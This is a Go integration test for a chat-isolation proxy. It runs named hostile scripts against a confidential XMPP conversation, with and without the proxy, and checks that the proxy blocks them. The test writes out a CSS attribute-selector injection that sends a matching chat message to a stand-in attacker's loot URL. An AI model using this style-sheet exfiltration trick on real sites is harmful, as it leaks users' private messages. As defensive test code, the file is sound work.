package integration

import (
	"context"
	"fmt"
	"net/http/httptest"
	"strings"
	"testing"

	"chatproxy/demo/site"
	"chatproxy/integration/browsers"
)

// The scripts that stand in the page with the chat; rrweb, the vendor's own replay
// script, is one more.
var attacks = []struct {
	name string
	// proof is what the loot has when the attack succeeds, beside or in place of
	// the secret.
	proof []string
}{
	{"read-dom", []string{secret}},
	{"copy-storage", []string{"strophe-bosh-session", `\"sid\"`, `\"rid\"`, secret}},
	{"take-api", []string{secret}},
	{"wrap-network", []string{secret}},
	{"inject-script", []string{"from the CDN: ", secret}},
	{"catch-password", []string{accounts["alice"]}},
	{"sleeper", []string{"awake: ", secret}},
	{"use-session", []string{"spoke as the user: 200 <body"}},
}

// secret is what Bob tells Alice in confidence.
const secret = "the heron flies at midnight"

// hostilePage has every attack in its head, before anything else can run, and the
// vendor's analytics and rrweb as every page of the newspaper.
func hostilePage(a *attacker) string {
	var b strings.Builder
	for _, attack := range attacks {
		fmt.Fprintf(&b, `<script src="%s/attacks/%s.js"></script>`+"\n", a.script, attack.name)
	}
	// A seventh needs no script: Converse writes messages into attributes, which a
	// style sheet in injected markup can read.
	fmt.Fprintf(&b, `<style>converse-chat-message-body[text*="heron flies"]{background:url("%s/loot/style?read")}</style>`+"\n", a.script)
	return b.String()
}

// confide has Bob tell Alice the secret, and Alice read it. Alice comes from
// another page of the site, so that there is a referrer.
func confide(t *testing.T, engine browsers.Engine, page string) (alice, bob *person) {
	t.Helper()
	alice = newPerson(t, engine, "alice", page+"/about")
	alice.Eval(`location.href = "/news/night-ferry?from=about"`)
	alice.Wait(`location.pathname === "/news/night-ferry" && document.readyState === "complete"`, patience)
	bob = newPerson(t, engine, "bob", page+"/")
	alice.logIn()
	bob.logIn()
	bob.openChat("alice")
	bob.say("may I tell you something?")
	alice.openChat("bob")
	alice.sees("may I tell you something?")
	bob.say(secret)
	alice.sees(secret)
	return alice, bob
}

// Without chatproxy every one of the six hostile scripts gets what it is after.
// This is the control of TestHostileScriptsGetNothing.
func TestHostileScriptsSucceedWithoutTheProxy(t *testing.T) {
	for _, engine := range browsers.All {
		t.Run(string(engine), func(t *testing.T) {
			server := newXMPP(t)
			vendor, vendorURL := newVendor(t)
			a := newAttacker(t)
			page := plainSite(t, server, site.NewSite(site.Options{
				Vendor: vendorURL, ExtraHead: hostilePage(a), ExtraBody: plainChat(overBOSH),
			}))
			confide(t, engine, page)

			ctx, cancel := context.WithTimeout(t.Context(), patience)
			defer cancel()
			for _, attack := range attacks {
				for _, proof := range attack.proof {
					if !a.wait(ctx, attack.name, func(loot []string) bool { return strings.Contains(strings.Join(loot, "\n"), proof) }) {
						t.Errorf("control: %s did not get %q: the attack proves nothing; it got:\n%.2000s", attack.name, proof, a.all(attack.name))
					}
				}
			}
			if !a.wait(ctx, "style", func(loot []string) bool { return len(loot) > 0 }) {
				t.Error("control: the style sheet did not read the secret: the attack proves nothing")
			}
			if _, err := vendor.Wait(ctx, func(h site.Hit) bool { return h.Path == "/collect/replay" && strings.Contains(h.Body, secret) }); err != nil {
				t.Errorf("control: rrweb did not record the secret: the attack proves nothing: %v", err)
			}
		})
	}
}

// Behind chatproxy the same scripts run, in compartments, and get nothing of the
// conversation; the vendor's own page view still arrives from there.
func TestHostileScriptsGetNothing(t *testing.T) {
	for _, engine := range browsers.All {
		t.Run(string(engine), func(t *testing.T) {
			server := newXMPP(t)
			vendor, vendorURL := newVendor(t)
			a := newAttacker(t)
			upstream := httptest.NewServer(site.NewSite(site.Options{
				Vendor: vendorURL, ExtraHead: hostilePage(a) + "<script>" + recorder + "</script>",
			}))
			t.Cleanup(upstream.Close)
			page, _ := protectedSite(t, server, upstream.URL, vendorURL, overBOSH)
			alice, bob := confide(t, engine, page)
			screenshot(t, alice)

			ctx, cancel := context.WithTimeout(t.Context(), patience)
			defer cancel()
			// Each script runs and looks several more times while the secret is
			// on the screen: that it found nothing means something.
			for _, attack := range attacks {
				seen := a.count(attack.name)
				if !a.wait(ctx, attack.name, func(loot []string) bool { return len(loot) >= seen+3 }) {
					t.Errorf("%s does not run in its compartment, so this test shows nothing about it", attack.name)
				}
			}
			// The session is alice's, and lives.
			alice.say("was that you?")
			bob.sees("was that you?")
			replayed, err := vendor.Wait(ctx, func(h site.Hit) bool { return h.Path == "/collect/replay" })
			if err != nil || replayed.Origin != "null" {
				t.Errorf("rrweb does not run in its compartment: origin %q, %v", replayed.Origin, err)
			}
			view, err := vendor.Wait(ctx, func(h site.Hit) bool {
				return h.Path == "/collect/pageview" && strings.Contains(h.Body, "/news/night-ferry?from=about")
			})
			if err != nil {
				t.Errorf("the vendor's own page view did not arrive: %v", err)
			}
			for _, want := range []string{`"url":"` + page + `/news/night-ferry?from=about"`, `"referrer":"` + page + `/about"`} {
				if !strings.Contains(view.Body, want) {
					t.Errorf("the page view %s lacks %s", view.Body, want)
				}
			}
			// WebKit 2.50 writes the document's origin on a beacon, opaque or not;
			// rrweb's fetch above shows where these scripts run.
			if view.Origin != "null" && engine != browsers.WebKit {
				t.Errorf("the page view comes from %q, not from an opaque origin", view.Origin)
			}

			if a.count("style") > 0 {
				t.Error("a style sheet in the page's markup read the secret")
			}
			for _, attack := range attacks {
				for _, leaked := range append([]string{secret, "may I tell you something", "alice@", "bob@"}, attack.proof...) {
					if strings.Contains(a.all(attack.name), leaked) {
						t.Errorf("%s got %q", attack.name, leaked)
					}
				}
			}
			hits := vendor.Hits()
			if len(hits) == 0 || hits[0].Seq != 1 {
				t.Error("the vendor has forgotten early hits, so this test does not see all that arrived")
			}
			for _, hit := range hits {
				if hit.Truncated {
					t.Errorf("%s was cut, so this test does not see all of it", hit.Path)
				}
				for _, leaked := range []string{secret, "may I tell you something", "alice@", "bob@"} {
					if strings.Contains(hit.Body+hit.Query+hit.Referer, leaked) {
						t.Errorf("the vendor got %q at %s", leaked, hit.Path)
					}
				}
			}
		})
	}
}
